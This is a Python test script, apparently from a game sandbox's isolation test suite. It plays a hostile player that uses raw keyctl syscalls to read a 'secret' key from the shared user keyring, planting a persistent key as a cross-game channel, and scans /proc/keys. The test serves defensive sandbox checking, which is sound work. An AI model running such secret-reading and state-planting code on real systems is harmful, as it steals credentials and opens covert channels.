"""Attack 3 of issue 25: the kernel's keyrings, shared by every process of a user. At its first move it

- looks for the key ``user:NAME-secret`` in its user's keyring (``@u``, which root's processes share with a
  uid-0 player) and reads it;
- adds the key ``user:NAME-left`` there (it would stay after the game: a channel between games, and kernel
  memory);
- reads /proc/keys, looking for NAME;

then reports (`passive_kit.report`) ``{"secret": TEXT or null, "left": KEY ID or null, "listed": bool,
"errors": [ERRNO NAMES]}`` and plays passively.

    reads_keyring.py NAME
"""

import ctypes
import errno
import os
import platform

from passive_kit import arg, report, run

NAME = arg(1, "dominion-test")
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
USER_KEYRING = -4
SEARCH, READ = 10, 11
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
errors = []


def call(*args):
    result = libc.syscall(*(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    if result == -1:
        errors.append(errno.errorcode.get(ctypes.get_errno(), "?"))
        return None
    return result


def attack(message, count):
    if count != 0:
        return None
    secret = None
    key = call(KEYCTL, SEARCH, USER_KEYRING, b"user", f"{NAME}-secret".encode(), 0)
    if key is not None:
        buffer = ctypes.create_string_buffer(4096)
        size = call(KEYCTL, READ, key, buffer, 4096)
        if size is not None:
            secret = buffer.raw[: min(size, 4096)].decode(errors="replace")
    payload = b"left behind"
    left = call(ADD_KEY, b"user", f"{NAME}-left".encode(), payload, len(payload), USER_KEYRING)
    try:
        with open("/proc/keys", encoding="utf-8", errors="replace") as keys:
            listed = NAME in keys.read()
    except OSError:
        listed = False
    report({"secret": secret, "left": left, "listed": listed, "errors": errors, "pid": os.getpid()})
    return None


raise SystemExit(run(answer=attack))
